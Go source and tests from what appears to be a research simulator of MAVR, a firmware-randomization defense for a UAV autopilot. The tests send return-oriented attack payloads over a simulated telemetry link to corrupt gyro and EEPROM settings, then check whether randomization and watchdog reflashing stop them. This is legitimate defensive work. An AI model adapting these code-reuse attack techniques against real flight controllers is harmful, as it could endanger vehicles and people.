	if err := sys.Run(50 * time.Millisecond); err != nil {
		t.Fatal(err)
	}
	if len(sys.DrainGCS()) == 0 {
		t.Fatal("software-only board produced no telemetry")
	}
	fr := attack.Frame(payload)
	sys.SendToUAV(fr.MarshalOversize())
	if err := sys.Run(500 * time.Millisecond); err != nil {
		t.Fatal(err)
	}
	if got := sys.App.CPU.Data[firmware.AddrGyroCfg]; got == 0x55 {
		t.Error("stale attack succeeded against the flash-time randomization")
	}
}

// ...but unlike MAVR it never re-randomizes: the layout is identical
// across reboots, so every failed attempt gives the attacker durable
// information — the first reason §VIII-A rejects the design.
func TestSoftwareOnlyLayoutIsFixedForever(t *testing.T) {
	img := testImage(t)
	dump := func() []byte {
		sys := board.NewSystem(board.SystemConfig{SoftwareOnly: true, SoftwareSeed: 5})
		if err := sys.FlashFirmware(img); err != nil {
			t.Fatal(err)
		}
		if _, err := sys.Boot(); err != nil {
			t.Fatal(err)
		}
		// No readout fuse in the software-only design either.
		d, err := sys.App.ReadFlashExternally()
		if err != nil {
			t.Fatal(err)
		}
		return d
	}
	a, b := dump(), dump()
	for i := range a {
		if a[i] != b[i] {
			t.Fatal("software-only layout changed across flashes — it must not")
		}
	}
	// A MAVR board with different seeds produces different layouts.
	layout := func(seed int64) []byte {
		sys := board.NewSystem(board.SystemConfig{Master: board.MasterConfig{Seed: seed}})
		if err := sys.FlashFirmware(img); err != nil {
			t.Fatal(err)
		}
		if _, err := sys.Boot(); err != nil {
			t.Fatal(err)
		}
		return append([]byte(nil), sys.App.CPU.Flash[:len(img.Flash)]...)
	}
	x, y := layout(1), layout(2)
	same := true
	for i := range x {
		if x[i] != y[i] {
			same = false
			break
		}
	}
	if same {
		t.Error("MAVR layouts identical across seeds")
	}
}

// The second §VIII-A reason: no fault tolerance. After a failed attack
// the software-only board has no master to notice or recover; if the
// processor halts it stays halted until a physical power cycle.
func TestSoftwareOnlyHasNoRecovery(t *testing.T) {
	img := testImage(t)
	a, err := attack.Analyze(img.ELF)
	if err != nil {
		t.Fatal(err)
	}
	// A V1-style payload via bootloader gadgets halts the board with a
	// garbage return regardless of layout.
	if err := a.UseFixedGadgets(img.Bootloader, firmware.BootloaderStart); err != nil {
		t.Fatal(err)
	}
	payload, err := attack.BuildV1(a, attack.GyroCfgWrite(0x11))
	if err != nil {
		t.Fatal(err)
	}
	sys := board.NewSystem(board.SystemConfig{SoftwareOnly: true, SoftwareSeed: 9})
	if err := sys.FlashFirmware(img); err != nil {
		t.Fatal(err)
	}
	if _, err := sys.Boot(); err != nil {
		t.Fatal(err)
	}
	fr := attack.Frame(payload)
	sys.SendToUAV(fr.MarshalOversize())
	if err := sys.Run(2 * time.Second); err != nil {
		t.Fatal(err)
	}
	if sys.LastFault() == nil {
		t.Fatal("attack did not halt the board")
	}
	before := len(sys.DrainGCS())
	_ = before
	if err := sys.Run(2 * time.Second); err != nil {
		t.Fatal(err)
	}
	if got := len(sys.DrainGCS()); got != 0 {
		t.Errorf("halted software-only board still transmitted %d bytes — no recovery should exist", got)
	}
	if sys.App.Running() {
		t.Error("board recovered without a master processor")
	}
}

// The board's 1 kHz timer tick drives the firmware ISR; uptime advances
// with simulated time and keeps advancing on a randomized image (the
// vector-table patch keeps interrupts working).
func TestBoardTimerTickAdvancesUptime(t *testing.T) {
	img := testImage(t)
	sys := board.NewSystem(board.SystemConfig{Master: board.MasterConfig{Seed: 3}})
	if err := sys.FlashFirmware(img); err != nil {
		t.Fatal(err)
	}
	if _, err := sys.Boot(); err != nil {
		t.Fatal(err)
	}
	if err := sys.Run(100 * time.Millisecond); err != nil {
		t.Fatal(err)
	}
	uptime := uint16(sys.App.CPU.Data[firmware.AddrUptime]) |
		uint16(sys.App.CPU.Data[firmware.AddrUptime+1])<<8
	if uptime < 80 || uptime > 120 {
		t.Errorf("uptime = %d ticks after 100ms, want ~100", uptime)
	}
	if sys.LastFault() != nil {
		t.Fatalf("fault: %v", sys.LastFault())
	}
}

// Readout protection also guards the bootloader-resident flash view.
func TestBootloaderResidentAfterReflash(t *testing.T) {
	img := testImage(t)
	sys := board.NewSystem(board.SystemConfig{Master: board.MasterConfig{Seed: 8}})
	if err := sys.FlashFirmware(img); err != nil {
		t.Fatal(err)
	}
	if _, err := sys.Boot(); err != nil {
		t.Fatal(err)
	}
	flash := sys.App.CPU.Flash
	for i, b := range img.Bootloader {
		if flash[int(firmware.BootloaderStart)+i] != b {
			t.Fatal("bootloader lost after programming")
		}
	}
	// The bootloader code must decode cleanly (it is real code).
	in := avr.DecodeAt(flash, firmware.BootloaderStart/2)
	if in.Op == avr.OpInvalid {
		t.Error("bootloader entry does not decode")
	}
}
