package board_test

import (
	"testing"
	"time"

	"mavr/internal/attack"
	"mavr/internal/board"
	"mavr/internal/firmware"
)

// MAVR's recovery reflash undoes volatile damage: a successful RAM
// write via randomization-immune bootloader gadgets is erased when the
// master detects the crash and reboots the application.
func TestReflashUndoesVolatileDamage(t *testing.T) {
	img := testImage(t)
	a, err := attack.Analyze(img.ELF)
	if err != nil {
		t.Fatal(err)
	}
	if err := a.UseFixedGadgets(img.Bootloader, firmware.BootloaderStart); err != nil {
		t.Fatal(err)
	}
	payload, err := attack.BuildV1(a, attack.GyroCfgWrite(0x7F))
	if err != nil {
		t.Fatal(err)
	}
	sys := board.NewSystem(board.SystemConfig{Master: board.MasterConfig{
		Seed: 5, WatchdogTimeout: 20 * time.Millisecond,
	}})
	if err := sys.FlashFirmware(img); err != nil {
		t.Fatal(err)
	}
	if _, err := sys.Boot(); err != nil {
		t.Fatal(err)
	}
	fr := attack.Frame(payload)
	sys.SendToUAV(fr.MarshalOversize())
	if err := sys.Run(3 * time.Second); err != nil {
		t.Fatal(err)
	}
	if sys.Master.Stats().FailuresDetected == 0 {
		t.Fatal("crash not detected")
	}
	// The write landed transiently but the recovery reboot reloaded the
	// clean configuration from EEPROM.
	if got := sys.App.CPU.Data[firmware.AddrGyroCfg]; got == 0x7F {
		t.Errorf("volatile damage survived the reflash (0x%02X)", got)
	}
}

// ...but the same fixed gadgets driving the EEPROM controller produce
// PERSISTENT damage: after the master's recovery, the firmware reloads
// the attacker's configuration from EEPROM. This is the §VI-B4 warning
// taken to its conclusion — with a resident bootloader, one crashed
// packet defeats the recovery story; hardware ISP closes it.
func TestBootGadgetEEPROMDamagePersistsThroughReflash(t *testing.T) {
	img := testImage(t)
	a, err := attack.Analyze(img.ELF)
	if err != nil {
		t.Fatal(err)
	}
	if err := a.UseFixedGadgets(img.Bootloader, firmware.BootloaderStart); err != nil {
		t.Fatal(err)
	}
	payload, err := attack.BuildV1(a, attack.EEPROMCfgWrites(firmware.EEPROMCfgAddr, 0x6B)...)
	if err != nil {
		t.Fatal(err)
	}
	sys := board.NewSystem(board.SystemConfig{Master: board.MasterConfig{
		Seed: 5, WatchdogTimeout: 20 * time.Millisecond,
	}})
	if err := sys.FlashFirmware(img); err != nil {
		t.Fatal(err)
	}
	if _, err := sys.Boot(); err != nil {
		t.Fatal(err)
	}
	fr := attack.Frame(payload)
	sys.SendToUAV(fr.MarshalOversize())
	if err := sys.Run(3 * time.Second); err != nil {
		t.Fatal(err)
	}
	if sys.Master.Stats().FailuresDetected == 0 {
		t.Fatal("crash not detected")
	}
	if got := sys.App.CPU.EEPROM[firmware.EEPROMCfgAddr]; got != 0x6B {
		t.Fatalf("EEPROM config = 0x%02X, attack did not persist", got)
	}
	// Let the recovered firmware boot and reload its configuration.
	if err := sys.Run(100 * time.Millisecond); err != nil {
		t.Fatal(err)
	}
	if got := sys.App.CPU.Data[firmware.AddrGyroCfg]; got != 0x6B {
		t.Errorf("recovered firmware runs with config 0x%02X, want the persisted 0x6B", got)
	}
	// The hardware-ISP build is immune: no fixed gadgets to build on.
	spec := firmware.TestApp()
	spec.Bootloader = false
	isp, err := firmware.Generate(spec, firmware.ModeMAVR)
	if err != nil {
		t.Fatal(err)
	}
	aISP, err := attack.Analyze(isp.ELF)
	if err != nil {
		t.Fatal(err)
	}
	if err := aISP.UseFixedGadgets(nil, firmware.BootloaderStart); err == nil {
		t.Error("ISP build offered fixed gadgets")
	}
}
