package board

import (
	"math/rand"
	"time"

	"mavr/internal/avr"
	"mavr/internal/core"
	"mavr/internal/firmware"
)

// TelemetryBaud is the GCS link rate (3DR telemetry radio default).
const TelemetryBaud = 57600

// SystemConfig assembles a full MAVR board.
type SystemConfig struct {
	Master MasterConfig
	// FlashCapacity overrides the external flash size (0 = M95M02).
	FlashCapacity int
	// Unprotected builds a plain APM without the MAVR hardware: the
	// application processor runs the original binary, there is no
	// master, no watchdog and no readout fuse — the paper's attack
	// target baseline.
	Unprotected bool
	// SoftwareOnly builds the §VIII-A strawman the authors rejected:
	// the binary is randomized once at flash time on the host, with no
	// master processor. The permutation is fixed for the device's
	// lifetime (failed attempts leak information) and there is no
	// fault tolerance — a failed attack leaves the processor
	// inoperable until a physical power cycle.
	SoftwareOnly bool
	// SoftwareSeed drives the flash-time permutation in SoftwareOnly
	// mode.
	SoftwareSeed int64
}

// System is the complete simulated vehicle: application processor,
// master processor, external flash and the telemetry link to the
// ground station, all sharing one simulated clock.
type System struct {
	App    *AppProcessor
	Master *Master
	Flash  *ExternalFlash

	cfg   SystemConfig
	clock time.Duration

	// Telemetry byte queues with delivery deadlines.
	toUAV  []timedByte
	toGCS  []byte
	txBusy time.Duration // UAV transmitter ready time

	lastFault  *avr.Fault
	reflashes  []StartupReport
	nextTickAt time.Duration
	events     []Event
	profile    *FlightProfile
}

// TimerTickInterval is the TIMER0 overflow period raised by the board
// (1 kHz system tick).
const TimerTickInterval = time.Millisecond

type timedByte struct {
	at time.Duration
	b  byte
}

// NewSystem builds a board.
func NewSystem(cfg SystemConfig) *System {
	s := &System{cfg: cfg}
	s.App = NewAppProcessor()
	s.Flash = NewExternalFlash(cfg.FlashCapacity)
	if !cfg.Unprotected && !cfg.SoftwareOnly {
		s.Master = NewMaster(cfg.Master, s.Flash, s.App, func() time.Duration { return s.clock })
	}
	s.App.tx = func(b byte) { s.toGCS = append(s.toGCS, b) }
	return s
}

// Now returns the simulated time.
func (s *System) Now() time.Duration { return s.clock }

// FlashFirmware runs the host-side preprocessing phase and uploads the
// result to the external flash (or, on an unprotected board, programs
// the application processor directly with the original binary). A
// prototype build's resident serial bootloader is installed in the boot
// section first.
func (s *System) FlashFirmware(img *firmware.Image) error {
	if img.Bootloader != nil {
		s.App.InstallBootloader(img.Bootloader, firmware.BootloaderStart)
	}
	pre, err := core.Preprocess(img.ELF)
	if err != nil {
		return err
	}
	if s.cfg.Unprotected {
		if err := s.App.Program(img.ELF.Text); err != nil {
			return err
		}
		s.App.Reset(true)
		return nil
	}
	if s.cfg.SoftwareOnly {
		// Randomize exactly once, at flash time, on the host.
		rng := rand.New(rand.NewSource(s.cfg.SoftwareSeed))
		r, err := core.Randomize(pre, core.Permutation(rng, len(pre.Blocks)))
		if err != nil {
			return err
		}
		if err := s.App.Program(r.Image); err != nil {
			return err
		}
		s.App.Reset(true)
		return nil
	}
	return s.Flash.Store(pre)
}

// Boot powers the vehicle on. On a MAVR board the master may randomize
// and reprogram; the returned report carries the startup overhead
// (Table II). The simulated clock advances by the programming time.
func (s *System) Boot() (StartupReport, error) {
	if s.cfg.Unprotected || s.cfg.SoftwareOnly {
		s.App.Reset(true)
		return StartupReport{}, nil
	}
	rep, err := s.Master.Boot(s.clock)
	if err != nil {
		return rep, err
	}
	s.clock += rep.Total
	if rep.Randomized {
		s.logEvent(EventRandomized, "%d bytes programmed in %v", rep.ImageBytes, rep.Total.Round(time.Millisecond))
	}
	s.logEvent(EventBoot, "application started")
	return rep, nil
}

// SendToUAV queues raw telemetry-uplink bytes; they arrive at the UAV
// paced by the telemetry baud rate.
func (s *System) SendToUAV(data []byte) {
	at := s.clock
	byteTime := time.Duration(10 * int64(time.Second) / TelemetryBaud)
	for _, b := range data {
		at += byteTime
		s.toUAV = append(s.toUAV, timedByte{at: at, b: b})
	}
}

// DrainGCS returns and clears the bytes received by the ground station.
func (s *System) DrainGCS() []byte {
	out := s.toGCS
	s.toGCS = nil
	return out
}

// Reflashes returns the reports of watchdog-triggered reprogrammings.
func (s *System) Reflashes() []StartupReport { return s.reflashes }

// LastFault exposes the most recent application-processor fault.
func (s *System) LastFault() *avr.Fault { return s.lastFault }

// Run advances the simulation by d, in small quanta: serial bytes are
// delivered on schedule, the application processor executes at 16 MHz,
// and the master's watchdog analysis runs continuously. Detected
// failures trigger reset + re-randomization + reprogramming, whose
// duration also elapses on the simulated clock (§V-C, §V-D).
func (s *System) Run(d time.Duration) error {
	const quantum = 250 * time.Microsecond
	end := s.clock + d
	for s.clock < end {
		step := quantum
		if end-s.clock < step {
			step = end - s.clock
		}
		s.clock += step

		// Deliver due uplink bytes.
		for len(s.toUAV) > 0 && s.toUAV[0].at <= s.clock {
			s.App.Receive(s.toUAV[0].b)
			s.toUAV = s.toUAV[1:]
		}

		if s.clock >= s.nextTickAt {
			s.nextTickAt = s.clock + TimerTickInterval
			if s.App.Running() {
				s.App.CPU.RaiseInterrupt(avr.VectorTimer0Ovf)
			}
			if s.profile != nil {
				s.App.SetRawGyro(s.profile.Sample(s.clock))
			}
		}

		if s.App.Running() {
			if fault := s.App.RunCycles(CyclesFor(step)); fault != nil {
				if s.lastFault == nil || fault.Cycle != s.lastFault.Cycle {
					s.logEvent(EventFault, "%v", fault)
				}
				s.lastFault = fault
			}
		}

		if s.Master != nil {
			rep, err := s.Master.Poll(s.clock)
			if err != nil {
				return err
			}
			if rep != nil {
				s.logEvent(EventFailureDetected, "watchdog/boot-handshake anomaly")
				s.reflashes = append(s.reflashes, *rep)
				s.clock += rep.Total // board is down while reprogramming
				s.logEvent(EventReflash, "%d bytes reprogrammed in %v", rep.ImageBytes, rep.Total.Round(time.Millisecond))
			}
		}
	}
	return nil
}
