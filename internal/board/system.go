package board

import (
	"math/rand"
	"sync"
	"sync/atomic"
	"time"

	"mavr/internal/avr"
	"mavr/internal/core"
	"mavr/internal/firmware"
)

// TelemetryBaud is the GCS link rate (3DR telemetry radio default).
const TelemetryBaud = 57600

// SystemConfig assembles a full MAVR board.
type SystemConfig struct {
	Master MasterConfig
	// FlashCapacity overrides the external flash size (0 = M95M02).
	FlashCapacity int
	// Unprotected builds a plain APM without the MAVR hardware: the
	// application processor runs the original binary, there is no
	// master, no watchdog and no readout fuse — the paper's attack
	// target baseline.
	Unprotected bool
	// SoftwareOnly builds the §VIII-A strawman the authors rejected:
	// the binary is randomized once at flash time on the host, with no
	// master processor. The permutation is fixed for the device's
	// lifetime (failed attempts leak information) and there is no
	// fault tolerance — a failed attack leaves the processor
	// inoperable until a physical power cycle.
	SoftwareOnly bool
	// SoftwareSeed drives the flash-time permutation in SoftwareOnly
	// mode.
	SoftwareSeed int64
}

// System is the complete simulated vehicle: application processor,
// master processor, external flash and the telemetry link to the
// ground station, all sharing one simulated clock.
//
// Concurrency contract: exactly one goroutine (the "driver") may call
// FlashFirmware, Boot and Run, and only the driver may touch App,
// Master or Flash while Run is in flight. The telemetry link
// endpoints — SendToUAV, DrainGCS and Now — are safe for concurrent
// use from any goroutine, so a network server (cmd/mavr-fleetd) can
// shuttle uplink and downlink bytes while the driver advances the
// simulation.
type System struct {
	App    *AppProcessor
	Master *Master
	Flash  *ExternalFlash

	cfg     SystemConfig
	clockNS atomic.Int64 // simulated time in nanoseconds

	// linkMu guards the telemetry byte queues, which cross the
	// driver/network goroutine boundary.
	linkMu sync.Mutex
	toUAV  []timedByte
	toGCS  []byte

	lastFault  *avr.Fault
	reflashes  []StartupReport
	nextTickAt time.Duration
	events     []Event
	profile    *FlightProfile
}

// TimerTickInterval is the TIMER0 overflow period raised by the board
// (1 kHz system tick).
const TimerTickInterval = time.Millisecond

type timedByte struct {
	at time.Duration
	b  byte
}

// NewSystem builds a board.
func NewSystem(cfg SystemConfig) *System {
	s := &System{cfg: cfg}
	s.App = NewAppProcessor()
	s.Flash = NewExternalFlash(cfg.FlashCapacity)
	if !cfg.Unprotected && !cfg.SoftwareOnly {
		s.Master = NewMaster(cfg.Master, s.Flash, s.App, s.Now)
	}
	s.App.tx = func(b byte) {
		s.linkMu.Lock()
		s.toGCS = append(s.toGCS, b)
		s.linkMu.Unlock()
	}
	return s
}

// Now returns the simulated time. Safe for concurrent use.
func (s *System) Now() time.Duration { return time.Duration(s.clockNS.Load()) }

// advanceClock moves the simulated clock forward by d and returns the
// new time. Only the driver goroutine advances the clock.
func (s *System) advanceClock(d time.Duration) time.Duration {
	return time.Duration(s.clockNS.Add(int64(d)))
}

// FastForward advances the simulated clock to t if t is ahead of it
// (never backwards). A supervisor replacing a crashed board fast-
// forwards the fresh system to the predecessor's clock so the
// vehicle's simulated time stays monotonic across restarts — ground
// stations ignore regressing sim timestamps, and a clock jumping back
// would mask real silence.
func (s *System) FastForward(t time.Duration) {
	for {
		cur := s.clockNS.Load()
		if int64(t) <= cur || s.clockNS.CompareAndSwap(cur, int64(t)) {
			return
		}
	}
}

// FlashFirmware runs the host-side preprocessing phase and uploads the
// result to the external flash (or, on an unprotected board, programs
// the application processor directly with the original binary). A
// prototype build's resident serial bootloader is installed in the boot
// section first.
func (s *System) FlashFirmware(img *firmware.Image) error {
	if img.Bootloader != nil {
		s.App.InstallBootloader(img.Bootloader, firmware.BootloaderStart)
	}
	pre, err := core.Preprocess(img.ELF)
	if err != nil {
		return err
	}
	if s.cfg.Unprotected {
		if err := s.App.Program(img.ELF.Text); err != nil {
			return err
		}
		s.App.Reset(true)
		return nil
	}
	if s.cfg.SoftwareOnly {
		// Randomize exactly once, at flash time, on the host.
		rng := rand.New(rand.NewSource(s.cfg.SoftwareSeed))
		r, err := core.Randomize(pre, core.Permutation(rng, len(pre.Blocks)))
		if err != nil {
			return err
		}
		if err := s.App.Program(r.Image); err != nil {
			return err
		}
		s.App.Reset(true)
		return nil
	}
	return s.Flash.Store(pre)
}

// Boot powers the vehicle on. On a MAVR board the master may randomize
// and reprogram; the returned report carries the startup overhead
// (Table II). The simulated clock advances by the programming time.
func (s *System) Boot() (StartupReport, error) {
	if s.cfg.Unprotected || s.cfg.SoftwareOnly {
		s.App.Reset(true)
		return StartupReport{}, nil
	}
	rep, err := s.Master.Boot(s.Now())
	if err != nil {
		return rep, err
	}
	s.advanceClock(rep.Total)
	if rep.Randomized {
		s.logEvent(EventRandomized, "%d bytes programmed in %v", rep.ImageBytes, rep.Total.Round(time.Millisecond))
	}
	s.logEvent(EventBoot, "application started")
	return rep, nil
}

// SendToUAV queues raw telemetry-uplink bytes; they arrive at the UAV
// paced by the telemetry baud rate. Safe for concurrent use: senders on
// different goroutines are serialized onto the link in call order, each
// transmission starting no earlier than the previous one finished (a
// half-duplex radio sends one byte at a time).
func (s *System) SendToUAV(data []byte) {
	byteTime := time.Duration(10 * int64(time.Second) / TelemetryBaud)
	s.linkMu.Lock()
	defer s.linkMu.Unlock()
	at := s.Now()
	if n := len(s.toUAV); n > 0 && s.toUAV[n-1].at > at {
		at = s.toUAV[n-1].at
	}
	for _, b := range data {
		at += byteTime
		s.toUAV = append(s.toUAV, timedByte{at: at, b: b})
	}
}

// DrainGCS returns and clears the bytes received by the ground station.
// Safe for concurrent use with the driver goroutine.
func (s *System) DrainGCS() []byte {
	s.linkMu.Lock()
	out := s.toGCS
	s.toGCS = nil
	s.linkMu.Unlock()
	return out
}

// Reflashes returns the reports of watchdog-triggered reprogrammings.
func (s *System) Reflashes() []StartupReport { return s.reflashes }

// LastFault exposes the most recent application-processor fault.
func (s *System) LastFault() *avr.Fault { return s.lastFault }

// Run advances the simulation by d, in small quanta: serial bytes are
// delivered on schedule, the application processor executes at 16 MHz,
// and the master's watchdog analysis runs continuously. Detected
// failures trigger reset + re-randomization + reprogramming, whose
// duration also elapses on the simulated clock (§V-C, §V-D).
//
// Run is driver-only: it must never be called concurrently with itself
// or with Boot/FlashFirmware (see the System concurrency contract).
func (s *System) Run(d time.Duration) error {
	const quantum = 250 * time.Microsecond
	now := s.Now()
	end := now + d
	for now < end {
		step := quantum
		if end-now < step {
			step = end - now
		}
		now = s.advanceClock(step)

		// Deliver due uplink bytes.
		s.linkMu.Lock()
		for len(s.toUAV) > 0 && s.toUAV[0].at <= now {
			s.App.Receive(s.toUAV[0].b)
			s.toUAV = s.toUAV[1:]
		}
		s.linkMu.Unlock()

		if now >= s.nextTickAt {
			s.nextTickAt = now + TimerTickInterval
			if s.App.Running() {
				s.App.CPU.RaiseInterrupt(avr.VectorTimer0Ovf)
			}
			if s.profile != nil {
				s.App.SetRawGyro(s.profile.Sample(now))
			}
		}

		if s.App.Running() {
			if fault := s.App.RunCycles(CyclesFor(step)); fault != nil {
				if s.lastFault == nil || fault.Cycle != s.lastFault.Cycle {
					s.logEvent(EventFault, "%v", fault)
				}
				s.lastFault = fault
			}
		}

		if s.Master != nil {
			rep, err := s.Master.Poll(now)
			if err != nil {
				return err
			}
			if rep != nil {
				s.logEvent(EventFailureDetected, "watchdog/boot-handshake anomaly")
				s.reflashes = append(s.reflashes, *rep)
				// Board is down while reprogramming.
				now = s.advanceClock(rep.Total)
				s.logEvent(EventReflash, "%d bytes reprogrammed in %v", rep.ImageBytes, rep.Total.Round(time.Millisecond))
			}
		}
	}
	return nil
}
