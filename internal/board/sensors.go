package board

import (
	"math"
	"time"
)

// FlightProfile generates the raw gyro samples the application reads,
// following a simple mission shape (takeoff, cruise with gentle
// banking, turns). It makes the corrupted-sensor experiments visible:
// the ground station can compare the reported values against the
// physical truth the profile defines.
type FlightProfile struct {
	// BankPeriod is the period of the cruise banking oscillation.
	BankPeriod time.Duration
	// Amplitude is the gyro swing in raw units.
	Amplitude float64
	// Bias is the sample midpoint.
	Bias float64
}

// DefaultFlightProfile returns a gentle cruise profile.
func DefaultFlightProfile() FlightProfile {
	return FlightProfile{
		BankPeriod: 2 * time.Second,
		Amplitude:  20,
		Bias:       100,
	}
}

// Sample returns the physical gyro value at simulated time t.
func (f FlightProfile) Sample(t time.Duration) byte {
	phase := 2 * math.Pi * float64(t) / float64(f.BankPeriod)
	v := f.Bias + f.Amplitude*math.Sin(phase)
	if v < 0 {
		v = 0
	}
	if v > 255 {
		v = 255
	}
	return byte(v)
}

// AttachFlightProfile drives the application's gyro input from the
// profile as simulated time advances.
func (s *System) AttachFlightProfile(f FlightProfile) {
	s.profile = &f
	s.App.SetRawGyro(f.Sample(0))
}

// TruthGyro returns the physical sensor value at the current simulated
// time (0 when no profile is attached).
func (s *System) TruthGyro() byte {
	if s.profile == nil {
		return 0
	}
	return s.profile.Sample(s.Now())
}
