package board

import (
	"errors"
	"time"

	"mavr/internal/avr"
	"mavr/internal/firmware"
)

// CPUClockHz is the application processor clock (16 MHz).
const CPUClockHz = 16_000_000

// AppProcessor is the ATmega2560 running the (randomized) autopilot.
type AppProcessor struct {
	CPU *avr.CPU

	// ReadoutFuse models the lock bits: once set, external reads of the
	// program memory are refused, so an attacker can never obtain the
	// randomized binary (§V-A3).
	ReadoutFuse bool

	inReset bool

	bootCode  []byte
	bootStart uint32

	rx      []byte
	rx1     []byte // master-processor programming link (USART1)
	tx      func(byte)
	rawGyro byte
	onFeed  func()
	onBoot  func()
}

// ErrReadoutProtected is returned when debugger readout is attempted
// with the fuse set.
var ErrReadoutProtected = errors.New("board: readout protection fuse set")

// NewAppProcessor returns a powered-down application processor.
func NewAppProcessor() *AppProcessor {
	a := &AppProcessor{CPU: avr.New(), rawGyro: 10}
	a.CPU.HookRead(firmware.AddrUCSR0A, func(byte) byte {
		v := byte(1 << firmware.BitUDRE)
		if len(a.rx) > 0 {
			v |= 1 << firmware.BitRXC
		}
		return v
	})
	a.CPU.HookRead(firmware.AddrUDR0, func(byte) byte {
		if len(a.rx) == 0 {
			return 0
		}
		b := a.rx[0]
		a.rx = a.rx[1:]
		return b
	})
	a.CPU.HookWrite(firmware.AddrUDR0, func(v byte) {
		if a.tx != nil {
			a.tx(v)
		}
	})
	a.CPU.HookRead(firmware.AddrADCL, func(byte) byte { return a.rawGyro })
	// USART1: the master-processor link the bootloader listens on.
	a.CPU.HookRead(firmware.AddrUCSR1A, func(byte) byte {
		if len(a.rx1) > 0 {
			return 1 << 7 // RXC1
		}
		return 0
	})
	a.CPU.HookRead(firmware.AddrUDR1, func(byte) byte {
		if len(a.rx1) == 0 {
			return 0
		}
		b := a.rx1[0]
		a.rx1 = a.rx1[1:]
		return b
	})
	a.CPU.HookWrite(firmware.AddrWatchdogFeed, func(byte) {
		if a.onFeed != nil {
			a.onFeed()
		}
	})
	a.CPU.HookWrite(firmware.AddrBootNotify, func(byte) {
		if a.onBoot != nil {
			a.onBoot()
		}
	})
	return a
}

// InstallBootloader places resident bootloader code at the given flash
// byte address; it survives application reprogramming (the boot section
// is not erased by the serial loader).
func (a *AppProcessor) InstallBootloader(code []byte, start uint32) {
	a.bootCode = append([]byte(nil), code...)
	a.bootStart = start
	copy(a.CPU.Flash[start:], a.bootCode)
	a.CPU.InvalidateFlash(start, uint32(len(a.bootCode)))
}

// Program writes a new application image into the processor's flash via
// the bootloader and leaves the core in reset. The resident bootloader
// section, if any, is preserved.
func (a *AppProcessor) Program(image []byte) error {
	if err := a.CPU.LoadFlash(image); err != nil {
		return err
	}
	if a.bootCode != nil {
		copy(a.CPU.Flash[a.bootStart:], a.bootCode)
		a.CPU.InvalidateFlash(a.bootStart, uint32(len(a.bootCode)))
	}
	a.inReset = true
	return nil
}

// ReadFlashExternally models a debugger/ISP readout attempt.
func (a *AppProcessor) ReadFlashExternally() ([]byte, error) {
	if a.ReadoutFuse {
		return nil, ErrReadoutProtected
	}
	out := make([]byte, len(a.CPU.Flash))
	copy(out, a.CPU.Flash)
	return out, nil
}

// Reset releases (or re-enters) reset; coming out of reset clears the
// core state.
func (a *AppProcessor) Reset(run bool) {
	a.CPU.Reset()
	a.rx = nil
	a.rx1 = nil
	a.inReset = !run
}

// EnterBootloader resets the core into the resident bootloader (the
// master asserts RESET and sends the magic byte sequence, §VI-B4).
func (a *AppProcessor) EnterBootloader() error {
	if a.bootCode == nil {
		return errors.New("board: no resident bootloader (hardware-ISP build)")
	}
	a.Reset(true)
	a.CPU.PC = a.bootStart / 2
	return nil
}

// ProgramViaBootloader reprograms the application region at instruction
// level: the image is framed into the bootloader's page protocol,
// queued on USART1, and the resident bootloader executes the SPM
// sequences that rewrite flash. Returns the cycles the bootloader
// consumed. This is the §VI-B4 programming path run for real (the
// timed board model uses the equivalent baud-limited cost).
func (a *AppProcessor) ProgramViaBootloader(image []byte) (uint64, error) {
	if err := a.EnterBootloader(); err != nil {
		return 0, err
	}
	var wire []byte
	for page := 0; page < len(image); page += avr.SPMPageSize {
		wire = append(wire, firmware.BootCmdProgram,
			byte(page>>16), byte(page>>8), byte(page))
		for i := 0; i < avr.SPMPageSize; i++ {
			if page+i < len(image) {
				wire = append(wire, image[page+i])
			} else {
				wire = append(wire, 0xFF)
			}
		}
	}
	wire = append(wire, firmware.BootCmdQuit)
	a.rx1 = wire

	start := a.CPU.Cycles
	budget := uint64(len(wire))*200 + 1_000_000
	done, fault := a.CPU.RunUntil(budget, func(c *avr.CPU) bool {
		return len(a.rx1) == 0 && c.PC < a.bootStart/2
	})
	if fault != nil {
		return a.CPU.Cycles - start, fault
	}
	if !done {
		return a.CPU.Cycles - start, errors.New("board: bootloader did not hand over to the application")
	}
	cycles := a.CPU.Cycles - start
	// The handover jumped to the reset vector; restart cleanly so the
	// application begins from power-on state.
	a.inReset = true
	return cycles, nil
}

// Running reports whether the core executes (not in reset, not halted).
func (a *AppProcessor) Running() bool { return !a.inReset && !a.CPU.Halted() }

// Receive queues one serial byte from the telemetry link.
func (a *AppProcessor) Receive(b byte) { a.rx = append(a.rx, b) }

// SetRawGyro sets the physical sensor sample the firmware reads.
func (a *AppProcessor) SetRawGyro(v byte) { a.rawGyro = v }

// RunCycles executes the core for the given number of clock cycles
// (no-op while in reset or halted).
func (a *AppProcessor) RunCycles(n uint64) *avr.Fault {
	if !a.Running() {
		return a.CPU.Fault()
	}
	_, fault := a.CPU.Run(n)
	return fault
}

// CyclesFor converts simulated wall time to CPU cycles.
func CyclesFor(d time.Duration) uint64 {
	return uint64(d.Nanoseconds()) * CPUClockHz / uint64(time.Second)
}
