package board

import (
	"fmt"
	"time"
)

// EventKind labels one entry in the board's event log.
type EventKind int

// Event kinds.
const (
	EventBoot EventKind = iota + 1
	EventRandomized
	EventFailureDetected
	EventReflash
	EventFault
)

func (k EventKind) String() string {
	switch k {
	case EventBoot:
		return "boot"
	case EventRandomized:
		return "randomized"
	case EventFailureDetected:
		return "failure-detected"
	case EventReflash:
		return "reflash"
	case EventFault:
		return "fault"
	}
	return "unknown"
}

// Event is one timeline entry.
type Event struct {
	At   time.Duration
	Kind EventKind
	Note string
}

func (e Event) String() string {
	return fmt.Sprintf("%8s  %-16s %s", e.At.Round(time.Millisecond), e.Kind, e.Note)
}

// Events returns the board's lifecycle timeline (boots, randomizations,
// detections, reflashes, faults).
func (s *System) Events() []Event {
	return append([]Event(nil), s.events...)
}

func (s *System) logEvent(kind EventKind, format string, args ...any) {
	s.events = append(s.events, Event{At: s.Now(), Kind: kind, Note: fmt.Sprintf(format, args...)})
}
