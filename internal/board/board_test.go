package board_test

import (
	"errors"
	"testing"
	"time"

	"mavr/internal/attack"
	"mavr/internal/board"
	"mavr/internal/core"
	"mavr/internal/firmware"
	"mavr/internal/mavlink"
)

func testImage(t *testing.T) *firmware.Image {
	t.Helper()
	img, err := firmware.Generate(firmware.TestApp(), firmware.ModeMAVR)
	if err != nil {
		t.Fatal(err)
	}
	return img
}

func TestUnprotectedBoardBootsAndFlies(t *testing.T) {
	img := testImage(t)
